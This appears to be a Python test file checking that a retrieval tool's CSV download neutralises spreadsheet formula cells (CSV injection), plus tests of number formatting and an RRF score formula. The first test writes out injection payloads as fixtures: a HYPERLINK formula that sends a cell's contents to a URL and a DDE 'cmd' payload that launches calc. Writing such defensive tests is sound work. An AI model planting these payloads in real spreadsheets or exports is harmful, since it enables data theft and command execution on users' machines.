"""The retrieval downloads: CSV cells a spreadsheet would run as formulas are neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from ui.exports import to_csv

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/x?d="&A1,"click")'


def chunk(**fields: object) -> dict[str, object]:
    doc: dict[str, object] = {
        "id": "c1", "kb": "kb", "rank": 1, "source": "a.txt", "page": None, "heading": None, "chunk_index": 0,
        "text": "plain", "scores": {"dense": 0.5, "sparse": -0.12, "final": -0.12, "mode": "dense"},
    }
    doc.update(fields)
    return doc


def test_item3_formula_cells_in_the_csv_download_get_a_leading_quote() -> None:
    docs = [chunk(source=HYPERLINK, text="+1+cmd|' /C calc'!A0", heading="@SUM(A1:A9)"),
            chunk(id="c2", rank=2, source="-2+3.txt", text="\t=1+1", heading="\r=2")]
    rows = list(csv.DictReader(io.StringIO(to_csv("=cmd()", docs))))

    assert rows[0]["source"] == "'" + HYPERLINK
    assert rows[0]["text"] == "'+1+cmd|' /C calc'!A0"
    assert rows[0]["heading"] == "'@SUM(A1:A9)"
    assert rows[0]["query"] == "'=cmd()"
    assert (rows[1]["source"], rows[1]["text"], rows[1]["heading"]) == ("'-2+3.txt", "'\t=1+1", "'\r=2")


def test_item3_numbers_and_plain_text_stay_as_they_are() -> None:
    [row] = csv.DictReader(io.StringIO(to_csv("remote work", [chunk(text="Employees = staff")])))
    assert (row["sparse"], row["final"], row["dense"]) == ("-0.12", "-0.12", "0.5")
    assert (row["text"], row["source"], row["query"], row["rank"]) == ("Employees = staff", "a.txt", "remote work", "1")


def test_csv_has_each_chunks_final_with_its_numbers() -> None:
    scores = {"dense": 0.8, "sparse": 2.0, "colbert": None, "hybrid": 1.4 / 1.3, "rrf": 1 / 12 + 1 / 15,
              "dense_rank": 2, "sparse_rank": 5, "colbert_rank": None, "final": 1 / 12 + 1 / 15, "mode": "hybrid",
              "fusion": "rrf", "weights": {"dense": 1.0, "sparse": 0.3, "colbert": 1.0}}
    [row] = csv.DictReader(io.StringIO(to_csv("q", [chunk(scores=scores)], rrf_k=10)))
    assert row["formula"] == f"final = 1/(10 + 2) + 1/(10 + 5) = {1 / 12 + 1 / 15:.4f}"
    assert (row["dense_rank"], row["colbert_rank"], row["fusion"]) == ("2", "", "rrf")
